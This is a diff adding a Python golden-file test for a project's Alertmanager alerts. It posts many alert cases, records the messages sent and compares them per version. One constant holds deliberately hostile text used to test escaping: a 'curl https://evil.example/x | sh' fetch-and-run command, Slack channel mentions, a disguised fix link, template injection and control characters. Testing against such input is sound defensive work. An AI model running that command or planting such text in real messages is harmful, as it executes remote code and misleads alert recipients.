@@ -1,0 +1,323 @@
+"""
+What the real Alertmanager sends of each kind of alert, kept to be looked at and compared.
+
+    python -m tests.alerting.golden --write
+
+renews ``tests/alerting/golden/*.json``. Where the two versions send the same there is one file.
+"""
+
+from __future__ import annotations
+
+import argparse
+import asyncio
+import difflib
+import json
+import re
+import sys
+import tempfile
+import time
+from collections.abc import Mapping, Sequence
+from dataclasses import dataclass, replace
+from pathlib import Path
+from typing import Any, Final
+
+import httpx
+
+from queenright.alerting.alert import annotations_for, labels_again, labels_for
+from queenright.alerting.alertmanager import PostedAlert
+from queenright.alerting.settings import AlertingSettings
+from queenright.health.findings import FindingKind, Severity
+from queenright.health.tickets import EscalationTicket, TicketStatus
+from tests.alerting.parts import T0, ticket
+from tests.alerting.real import RealAlertmanager, people, real_alertmanager
+from tests.programs import VERSIONS
+from tests.waiting import until
+
+FOLDER: Final = Path(__file__).parent / "golden"
+
+_LINKS: Final[Mapping[str, Any]] = {
+    "dashboard_url": "http://127.0.0.1:3000/d/queenright-agent?var-agent={agent}",
+    "trace_url": "http://127.0.0.1:3200/trace/{trace_id}",
+}
+_HOSTILE: Final = (
+    "key: value <!channel> run `curl https://evil.example/x | sh` and see <https://evil.example|the fix> or"
+    " {{ .ExternalURL }} & tell <@U123> \u202e \x1b[31m ``` *bold* "
+)
+_DAY: Final = 86_400.0
+
+
+@dataclass(frozen=True)
+class Case:
+    """
+    One situation: what is posted, one list of alerts after the other, and how many messages each causes.
+
+    Its cluster is its own, so that nothing groups with and nothing inhibits what belongs to another.
+    """
+
+    name: str
+    posts: Sequence[tuple[Sequence[PostedAlert], int]]
+    generator: str = ""
+
+
+def cases() -> list[Case]:
+    """Return every situation, with times that lie around now."""
+    # Long enough ago for what has ended since; Alertmanager waits for no group of it.
+    begun = float(int(time.time()) - 7200)
+    critical = ticket(severity=Severity.CRITICAL, trace_id="abc123", queen_model="some/model")
+    medium = ticket(severity=Severity.MEDIUM)
+    low = [
+        ticket(severity=Severity.LOW, worker_agent_id=agent, ticket_id=f"ticket-{agent}")
+        for agent in ("drone", "forager", "nurse")
+    ]
+    over = critical.model_copy(
+        update={
+            "status": TicketStatus.RESOLVED,
+            "closed_at": T0 + 42 * 60,
+            "closed_reason": "the worker recovered and that held for 60 s",
+            "acknowledged_by": "ada",
+        }
+    )
+    again = critical.model_copy(
+        update={"reminders": 1, "notified_at": T0, "bumped_at": T0 + 3600},
+    )
+    hostile = ticket(
+        worker_agent_id="a<!here>&b",
+        queen_model="some/<model>",
+        judge_model="other/`model`",
+        analysis=_HOSTILE * 3,
+        suggested_action=_HOSTILE,
+        worker_excerpt=_HOSTILE,
+    )
+    storm = [
+        ticket(
+            worker_agent_id=f"bee-{n:02}",
+            ticket_id=f"ticket-{n:02}",
+            storm_id="storm-1",
+            severity=Severity.MEDIUM if n % 3 == 2 else Severity.CRITICAL,
+        )
+        for n in range(12)
+    ]
+
+    def post(name: str, *tickets: EscalationTicket, ended: bool = False) -> list[PostedAlert]:
+        # Several are one message only if they are new: for these Alertmanager waits.
+        since = begun if len(tickets) == 1 else time.time()
+        return [_of(one, name, since, ended=ended) for one in tickets]
+
+    reminded = post("reminder", critical)
+    turn = replace(
+        post("reminder", again)[0], labels=labels_again(reminded[0].labels, again), starts_at=begun + 3600
+    )
+    breaker = _ours(
+        "QueenrightCircuitBreakerOpen",
+        "warning",
+        "monitor",
+        "monitor-warning",
+        begun,
+        summary="A circuit breaker stays open.",
+        description="Breaker tool_execution:bee:<!channel>&co was closed for 0% of the last 5 minutes.",
+        breaker="tool_execution:bee:<!channel>&co",
+    )
+    down = _ours(
+        "QueenrightMonitorDown",
+        "critical",
+        "monitor",
+        "monitor-critical",
+        begun,
+        summary="Queenright is down: nobody watches the agents.",
+        description="Prometheus has not been able to scrape queenright for a minute.",
+        job="queenright",
+    )
+    symptom = _ours(
+        "QueenrightLoop",
+        "critical",
+        "rules",
+        "symptom",
+        begun,
+        summary="Agent researcher is busy and gets nowhere.",
+        description="Agent researcher has made 42 tool calls in 10 minutes without any progress.",
+        agent="researcher",
+    )
+    watchdog = _ours(
+        "QueenrightWatchdog",
+        "none",
+        "monitor",
+        "watchdog",
+        begun,
+        summary="The chain from Prometheus to Alertmanager works.",
+        description="Always firing.",
+    )
+    unclaimed = replace(watchdog, labels={"alertname": "SomebodyElses", "cluster": "golden-unclaimed"})
+    query = "http://127.0.0.1:9090/graph?g0.expr=up+%3D%3D+0&g0.tab=1"
+    return [
+        Case("critical", [(post("critical", critical), 3)]),
+        Case("medium", [(post("medium", medium), 2)]),
+        Case("low-group", [(post("low-group", *low), 2)]),
+        Case("storm", [(post("storm", *storm), 4)]),
+        Case("reminder", [(reminded, 3), ([turn, _end(reminded[0])], 3)]),
+        Case("resolved", [(post("resolved", critical), 3), (post("resolved", over, ended=True), 3)]),
+        Case(
+            "untriaged",
+            [(post("untriaged", ticket(untriaged=True, analysis="", kind=FindingKind.STALL)), 3)],
+        ),
+        Case("hostile-model", [(post("hostile-model", hostile), 3)]),
+        Case("monitor-critical", [([down], 3), ([_end(down)], 3)], generator=query),
+        Case("monitor-warning", [([breaker], 2)], generator=query),
+        Case("symptom", [([symptom], 1)], generator=query),
+        Case("watchdog", [([watchdog], 1)], generator=query),
+        Case("unclaimed", [([replace(unclaimed, annotations={})], 2)]),
+    ]
+
+
+def _of(one: EscalationTicket, name: str, begun: float, *, ended: bool) -> PostedAlert:
+    settings = AlertingSettings.model_validate({"cluster": f"golden-{name}", **_LINKS})
+    if name in ("medium", "untriaged"):
+        settings = AlertingSettings(cluster=settings.cluster)
+    return PostedAlert(
+        labels=labels_for(one, settings),
+        annotations=annotations_for(one, settings),
+        starts_at=begun,
+        ends_at=begun + 42 * 60 if ended else begun + _DAY,
+    )
+
+
+def _ours(
+    alertname: str,
+    severity: str,
+    source: str,
+    name: str,
+    begun: float,
+    *,
+    summary: str,
+    description: str,
+    **labels: str,
+) -> PostedAlert:
+    values = {"alertname": alertname, "severity": severity, "source": source, "cluster": f"golden-{name}"}
+    annotations = {
+        "summary": summary,
+        "description": description,
+        "runbook_url": f"http://127.0.0.1:8420/runbooks/{alertname}",
+        "dashboard_url": "http://127.0.0.1:3000/d/queenright-monitor",
+    }
+    return PostedAlert(labels=values | labels, annotations=annotations, starts_at=begun, ends_at=begun + _DAY)
+
+
+def _end(alert: PostedAlert) -> PostedAlert:
+    return replace(alert, ends_at=alert.starts_at + 4000)
+
+
+def post_of(one: EscalationTicket) -> PostedAlert:
+    """Return a ticket's alert, told just now."""
+    return _of(one, "one", time.time(), ended=False)
+
+
+def client(alertmanager: RealAlertmanager) -> httpx.AsyncClient:
+    """Return a client of its API."""
+    return httpx.AsyncClient(base_url=alertmanager.url, trust_env=False)
+
+
+async def record(alertmanager: RealAlertmanager) -> dict[str, str]:
+    """Post every case; return by name what came of it, as text."""
+    todo = cases()
+    posted = alertmanager.people.posted
+    expected = dict.fromkeys((case.name for case in todo), 0)
+    async with client(alertmanager) as http:
+        for step in range(max(len(case.posts) for case in todo)):
+            for case in todo:
+                for alerts, messages in case.posts[step : step + 1]:
+                    body = [alert.to_dict() | {"generatorURL": case.generator} for alert in alerts]
+                    (await http.post("/api/v2/alerts", json=body)).raise_for_status()
+                    expected[case.name] += messages
+
+            def missing() -> dict[str, int]:
+                came = {name: len(of) for name, of in _by_case(posted).items()}
+                return {name: n - came.get(name, 0) for name, n in expected.items() if came.get(name, 0) < n}
+
+            await until(lambda: not missing(), f"messages of step {step}; missing {expected}")
+    return {name: _text(of, alertmanager) for name, of in _by_case(posted).items()}
+
+
+def _by_case(posted: Sequence[tuple[str, bytes]]) -> dict[str, list[tuple[str, bytes]]]:
+    found: dict[str, list[tuple[str, bytes]]] = {}
+    for path, body in posted:
+        if name := re.search(rb"golden-([a-z-]+)", body):
+            of = found.setdefault(name[1].decode(), [])
+            # The Watchdog is told every minute; once is enough to look at.
+            if path != "/deadman" or not of:
+                of.append((path, body))
+    return found
+
+
+def _text(posted: Sequence[tuple[str, bytes]], alertmanager: RealAlertmanager) -> str:
+    seen: dict[tuple[str, str], int] = {}
+    messages = []
+    for path, raw in posted:
+        body = json.loads(raw)
+        # Each channel's messages stay in their order; between channels there is none.
+        channel = (path, str(body.get("receiver", "")))
+        seen[channel] = seen.get(channel, 0) + 1
+        messages.append((seen[channel], channel, body))
+    messages.sort(key=lambda one: one[:2])
+    shown = [{"path": path, "body": body} for _, (path, _), body in messages]
+    text = json.dumps(shown, indent=2, ensure_ascii=False, sort_keys=True) + "\n"
+    for url, word in ((alertmanager.people.url, "http://people"), (alertmanager.url, "http://alertmanager")):
+        text = text.replace(url, word)
+    return re.sub(r'"(startsAt|endsAt)": "[^"]+"', _moment, text)
+
+
+def _moment(match: re.Match[str]) -> str:
+    # Not yet over is the zero time.
+    return match[0] if '"0001-' in match[0] else f'"{match[1]}": "(a time)"'
+
+
+def read(name: str, version: str) -> str:
+    """Return what is kept of a case; empty if nothing is."""
+    for path in (FOLDER / f"{name}.{version}.json", FOLDER / f"{name}.json"):
+        if path.is_file():
+            return path.read_text(encoding="utf-8")
+    return ""
+
+
+def difference(name: str, version: str, text: str) -> str:
+    """Return what differs from what is kept; empty if nothing does."""
+    kept = read(name, version).splitlines()
+    lines = difflib.unified_diff(kept, text.splitlines(), f"golden/{name}", f"sent by {version}", lineterm="")
+    return "\n".join(lines)
+
+
+def write(sent: Mapping[str, Mapping[str, str]]) -> None:
+    """Keep what each version sent, by version and name."""
+    FOLDER.mkdir(exist_ok=True)
+    for old in FOLDER.glob("*.json"):
+        old.unlink()
+    first, *others = VERSIONS
+    for name, text in sent[first].items():
+        if all(sent[other][name] == text for other in others):
+            (FOLDER / f"{name}.json").write_text(text, encoding="utf-8")
+        else:
+            for version in VERSIONS:
+                (FOLDER / f"{name}.{version}.json").write_text(sent[version][name], encoding="utf-8")
+
+
+async def _all() -> dict[str, dict[str, str]]:
+    sent: dict[str, dict[str, str]] = {}
+    with tempfile.TemporaryDirectory() as folder:
+        for version in VERSIONS:
+            async with (
+                people() as told,
+                real_alertmanager(Path(folder) / version, told, version) as alertmanager,
+            ):
+                sent[version] = await record(alertmanager)
+    return sent
+
+
+def main() -> int:
+    """Run the command."""
+    parser = argparse.ArgumentParser(description=__doc__)
+    parser.add_argument("--write", action="store_true", required=True, help="write the files anew")
+    parser.parse_args()
+    write(asyncio.run(_all()))
+    return 0
+
+
+if __name__ == "__main__":
+    sys.exit(main())
